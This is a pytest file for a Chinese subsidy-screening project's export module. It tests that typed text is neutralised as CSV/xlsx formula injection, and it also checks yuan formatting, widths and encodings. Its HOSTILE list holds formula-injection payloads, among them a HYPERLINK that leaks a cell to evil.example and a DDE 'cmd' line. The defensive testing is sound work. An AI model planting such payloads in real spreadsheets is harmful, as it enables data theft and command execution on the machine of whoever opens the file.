"""The one exporter (huiqi.exports): typed text never becomes a formula, in .xlsx or CSV; money stays a ¥ number;
every sheet is ready to hand in (Chinese name, bold frozen header, autofilter, widths measured with Chinese counted
twice, dates as dates, 是/否); every CSV is UTF-8 with a BOM or GB18030 on request.

The web exports are tested in tests/test_export_files.py and end to end in tests/web/test_export_injection.py; the
templates in tests/delivery/test_templates.py; here the rules themselves and the screen's files.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import duckdb
import pytest
from openpyxl import load_workbook

from huiqi import exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\u3000=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(A1)", "=cmd|' /C calc'!A0",
]
HARMLESS = ["普通文本", "a=b", "1+1", "", "—破折号", "¥100"]


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_text_in_xlsx_and_quoted_in_csv(text):
    cells = _cells(exports.table("t", ["h"], [[text]]))
    shown = cells[1].value.replace("\n", "\r") if text.startswith("\r") else cells[1].value  # XML reads CR as LF
    assert cells[1].data_type == "s" and shown == text  # shown as typed, never evaluated
    assert cells[1].quotePrefix  # and stays text when someone edits it in Excel
    assert exports.csv_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_unchanged(text):
    assert exports.csv_text(text) == text
    cells = _cells(exports.table("t", ["h", "i"], [[text, 1]]))
    assert cells[2].value == (text or None) and not cells[2].quotePrefix


def test_numbers_stay_numbers_with_the_yuan_format_and_dates_stay_dates():
    cells = _cells(exports.table("t", ["a", "b", "c", "d"], [[exports.yuan(123456789), -5, dt.date(2024, 3, 28), None]]))
    money, negative, day, empty = cells[4:]
    assert money.data_type == "n" and Decimal(str(money.value)) == Decimal("1234567.89")
    assert money.number_format == exports.YUAN_FORMAT
    assert negative.value == -5 and negative.data_type == "n"
    assert day.is_date and day.number_format == exports.DATE_FORMAT
    assert empty.value is None


def test_control_characters_and_overlong_text_still_make_a_workbook():
    cells = _cells(exports.table("t", ["h"], [["a\x01b"], ["x" * 40_000]]))
    assert cells[1].value == "a\ufffdb"
    assert len(cells[2].value) == exports.MAX_CELL_CHARS


def test_csv_neutralises_text_but_not_numbers(tmp_path):
    path = tmp_path / "out.csv"
    exports.write_csv_file(path, ["名称", "金额"], [[t, -100] for t in HOSTILE])
    rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    assert rows[0] == ["名称", "金额"]
    for (name, amount), text in zip(rows[1:], HOSTILE):
        assert name == "'" + text and amount == "-100"


def test_the_screening_workbook_and_csvs_from_duckdb(tmp_path):
    from huiqi.batch.workbook import _sheet

    con = duckdb.connect()
    con.execute("CREATE TABLE t AS SELECT * FROM (VALUES ('=1+1', 12345, 'eligible'), ('@x', 5, 'expired')) v(主体编号, 金额_分, 状态)")
    wb = exports.new_workbook(write_only=True)
    assert _sheet(wb, "明细", con, "SELECT * FROM t") == 2
    wb.save(tmp_path / "s.xlsx")
    ws = load_workbook(tmp_path / "s.xlsx")["明细"]
    assert [c.value for c in ws[1]] == ["主体编号", "金额（元）", "状态"]
    first = ws[2]
    assert first[0].value == "=1+1" and first[0].data_type == "s"
    assert Decimal(str(first[1].value)) == Decimal("123.45") and first[1].number_format == exports.YUAN_FORMAT
    assert first[2].value == "符合" and ws[3][2].value == "已过期"
    assert exports.query_to_csv(con, "SELECT * FROM t", tmp_path / "r.csv") == 2
    rows = list(csv.reader((tmp_path / "r.csv").open(encoding="utf-8-sig")))
    assert rows[0] == ["主体编号", "金额（元）", "状态"]  # fen shown as yuan, as in the workbook
    assert rows[1] == ["'=1+1", "123.45", "eligible"] and rows[2][0] == "'@x" and rows[2][1] == "0.05"


def test_no_other_module_writes_a_spreadsheet_or_a_csv():
    """One writer (huiqi/exports.py): a new export elsewhere would skip the formula rule."""
    import re
    from pathlib import Path

    root = Path(exports.__file__).parent
    pattern = re.compile(r"\bWorkbook\(|WriteOnlyCell\(|csv\.(writer|DictWriter)\(|COPY \(.*\bCSV\b|TO [^\n]*\.csv")
    offenders = [f"{p.relative_to(root)}:{n}" for p in root.rglob("*.py") if p.name != "exports.py"
                 for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if pattern.search(line)]
    assert offenders == []


# -- ready to hand in ---------------------------------------------------------------------------------


def _sheet(data: bytes, title: str | None = None):
    wb = load_workbook(io.BytesIO(data))
    return wb[title] if title else wb.worksheets[0]


def assert_handed_in(ws, headers: list[str] | None = None) -> None:
    """The look every export sheet has: bold header frozen under row 1, autofilter over the table, every column's
    width set, no formula anywhere."""
    assert ws.freeze_panes == "A2", ws.title
    assert all(c.font.b for c in ws[1] if c.value is not None), ws.title
    last = ws.max_column
    assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), ws.title
    from openpyxl.utils import get_column_letter

    for col in range(1, last + 1):
        assert ws.column_dimensions[get_column_letter(col)].width, (ws.title, col)
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", (ws.title, c.coordinate)
    if headers is not None:
        assert [c.value for c in ws[1]] == headers


def test_a_table_is_ready_to_hand_in():
    data = exports.table("项目清单", ["编号", "项目名称", "金额（元）", "日期", "是否上限", "时间"], [
        ["A1", "某某新能源电池材料生产基地建设项目", exports.yuan(1), dt.date(2024, 3, 28), True,
         dt.datetime(2024, 3, 28, 9, 30)],
        ["A2", "short", exports.yuan(98_765_432_101), dt.date(2024, 12, 31), False, None]])
    ws = _sheet(data)
    assert ws.title == "项目清单"
    assert_handed_in(ws, ["编号", "项目名称", "金额（元）", "日期", "是否上限", "时间"])
    assert ws.auto_filter.ref == "A1:F3"
    assert exports.YUAN_FORMAT == "¥#,##0.00" and ws["C2"].number_format == exports.YUAN_FORMAT
    assert Decimal(str(ws["C2"].value)) == Decimal("0.01") and Decimal(str(ws["C3"].value)) == Decimal("987654321.01")
    assert ws["D2"].is_date and ws["D2"].number_format == exports.DATE_FORMAT and ws["F2"].is_date
    assert ws["E2"].value == "是" and ws["E3"].value == "否"
    widths = {k: v.width for k, v in ws.column_dimensions.items()}
    # the Chinese name is 17 characters: about 34 columns wide, more than twice the ASCII id's column
    assert widths["B"] >= 2 * len("某某新能源电池材料生产基地建设项目") and widths["B"] > 2 * widths["A"]


def test_widths_count_chinese_twice_and_stay_within_bounds():
    assert exports.display_width("abc") == 3 and exports.display_width("项目") == 4
    assert exports.display_width("ＡＢ") == 4  # full-width letters are wide too
    assert exports.widths_of(["编号"], [["x" * 500]]) == [exports.MAX_WIDTH]
    assert exports.widths_of(["a"], [[None]]) == [exports.MIN_WIDTH]


def test_money_in_csv_is_yuan_with_two_decimals_and_flags_are_yes_no(tmp_path):
    path = tmp_path / "m.csv"
    exports.write_csv_file(path, ["金额（元）", "是否上限", "日期"],
                           [[exports.yuan(100), True, dt.date(2024, 5, 1)], [exports.yuan(-7), False, None]])
    rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    assert rows[1] == ["1.00", "是", "2024-05-01"] and rows[2] == ["-0.07", "否", ""]


def test_csv_starts_with_a_bom_and_gbk_round_trips(tmp_path):
    text = ["昆明市五华区", "䶮", "𠀀", "＝全角", "€"]  # GB18030 holds every one, GBK proper not all
    utf = tmp_path / "u.csv"
    exports.write_csv_file(utf, ["名称"], [[t] for t in text])
    assert utf.read_bytes().startswith(b"\xef\xbb\xbf")
    gbk = tmp_path / "g.csv"
    exports.write_csv_file(gbk, ["名称"], [[t] for t in text], encoding="gbk")
    raw = gbk.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf") and raw.startswith("名称".encode("gbk"))
    back = [r[0] for r in csv.reader(io.StringIO(raw.decode("gb18030"), newline=""))]
    assert back == ["名称", *["'" + t if exports.is_dangerous(t) else t for t in text]]
    # the project's own tolerant reader takes both files back
    from huiqi.parse.table import decode_csv

    assert decode_csv(raw).splitlines()[1] == "昆明市五华区" and decode_csv(utf.read_bytes()).startswith("名称")
    with pytest.raises(ValueError):
        exports.csv_encoding("latin-1")


# -- the screen's files -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def screened(tmp_path_factory):
    from huiqi import policies
    from huiqi.batch.screen import screen
    from huiqi.batch.synth import generate, write

    folder = tmp_path_factory.mktemp("screen")
    policy = policies.load()
    write(generate(400, 7, policy), folder / "reg")
    screen(policy, folder / "reg", dt.date(2024, 10, 1), folder / "out", excel_rows=True)
    screen(policy, folder / "reg", dt.date(2024, 10, 1), folder / "gbk", excel=False, encoding="gbk")
    return folder


def test_screen_workbook_names_beside_ids(screened):
    import pyarrow.parquet as pq

    wb = load_workbook(screened / "out" / "screen.xlsx")
    assert wb.sheetnames == ["按措施汇总", "按区县汇总", "资金池", "符合条件明细", "无法使用的行"]
    for ws in wb.worksheets:
        assert_handed_in(ws)
    detail = wb["符合条件明细"]
    head = [c.value for c in detail[1]]
    assert head[:10] == ["主体编号", "企业名称", "统一社会信用代码", "区县代码", "区县", "措施", "措施名称", "条款",
                         "条款名称", "事项编号"]
    entities = {r["entity_id"]: r for r in pq.read_table(screened / "reg" / "entities.parquet").to_pylist()}
    from huiqi import policies

    titles = {p.id: p.title_zh for p in policies.load().provisions()}
    rows = list(detail.iter_rows(min_row=2))
    assert any(r[12].value is not None for r in rows)
    col = {h: i for i, h in enumerate(head)}
    for r in rows:
        e = entities[r[0].value]
        assert r[col["企业名称"]].value == e["name"] and r[col["统一社会信用代码"]].value == e["credit_code"]
        assert r[col["条款名称"]].value == titles[r[col["条款"]].value]
        assert r[col["区县"]].value  # a name, not only the code
        assert r[col["是否上限"]].value in ("是", "否") and r[col["状态"]].value == "符合"
        assert r[col["日期"]].is_date
        amount = r[col["金额（元）"]]
        assert amount.value is None or (amount.data_type == "n" and amount.number_format == exports.YUAN_FORMAT)
    assert not any(isinstance(c.value, bool) for ws in wb.worksheets for row in ws.iter_rows() for c in row)
    summary = wb["按措施汇总"]
    assert [c.value for c in summary[1]][:4] == ["措施", "措施名称", "条款", "条款名称"]
    assert all(r[3].value == titles[r[2].value] for r in summary.iter_rows(min_row=2))


def test_screen_csvs_are_in_yuan_chinese_with_a_bom_and_agree_with_the_parquet(screened):
    import duckdb as ddb

    out = screened / "out"
    for name in ("summary_by_measure.csv", "summary_by_district.csv", "rejects.csv"):
        assert (out / name).read_bytes().startswith(b"\xef\xbb\xbf"), name
    with (out / "summary_by_measure.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert "测算金额（元）" in rows[0] and "条款名称" in rows[0] and not any(k.endswith("_分") for k in rows[0])
    assert all(len(r["测算金额（元）"].split(".")[1]) == 2 for r in rows)
    total = sum(Decimal(r["测算金额（元）"]) for r in rows)
    fen = ddb.connect().execute(f"SELECT sum(amount_fen) FROM '{out}/entitlements.parquet' "
                                "WHERE status = 'eligible'").fetchone()[0]
    assert total == Decimal(fen) / 100 and total > 0  # exact to the fen
    assert {r["含上限"] for r in rows} <= {"是", "否"}
    with (screened / "gbk" / "summary_by_measure.csv").open(encoding="gb18030", newline="") as f:
        assert list(csv.DictReader(f)) == rows  # the same file, in GB18030
    assert not (screened / "gbk" / "summary_by_measure.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_simulation_csv_is_written_like_the_summaries(tmp_path, screened):
    from huiqi import policies
    from huiqi.batch.simulate import simulate

    sim = simulate(policies.load(), screened / "reg", {"m07.compute_voucher.rate": "0.40"}, dt.date(2024, 12, 31),
                   tmp_path / "sim", encoding="gbk")
    with (tmp_path / "sim" / "simulation.csv").open(encoding="gb18030", newline="") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0])[:2] == ["条款", "条款名称"] and "调整后金额（元）" in rows[0]
    by_id = {r["条款"]: r for r in rows}
    for r in sim.rows:
        shown = by_id[r["provision_id"]]
        assert Decimal(shown["调整后金额（元）"]) == r["yuan_after"] and len(shown["调整后金额（元）"].split(".")[1]) == 2
        assert shown["条款名称"] == r["title_zh"]


def test_the_cli_writes_gbk_on_request(screened, tmp_path):
    from typer.testing import CliRunner

    from huiqi.cli import app

    out = tmp_path / "cli"
    r = CliRunner().invoke(app, ["screen", str(screened / "reg"), "--as-of", "2024-10-01", "--out", str(out),
                                 "--no-excel", "--encoding", "gbk"])
    assert r.exit_code == 0, r.output
    raw = (out / "summary_by_district.csv").read_bytes()
    assert raw.startswith("区县代码,区县".encode("gbk"))
    assert raw.decode("gb18030") == (screened / "out" / "summary_by_district.csv").read_bytes().decode("utf-8-sig")
    r = CliRunner().invoke(app, ["screen", str(screened / "reg"), "--as-of", "2024-10-01", "--out", str(out),
                                 "--encoding", "latin-1"])
    assert r.exit_code == 2 and "--encoding" in r.output + (r.stderr or "")
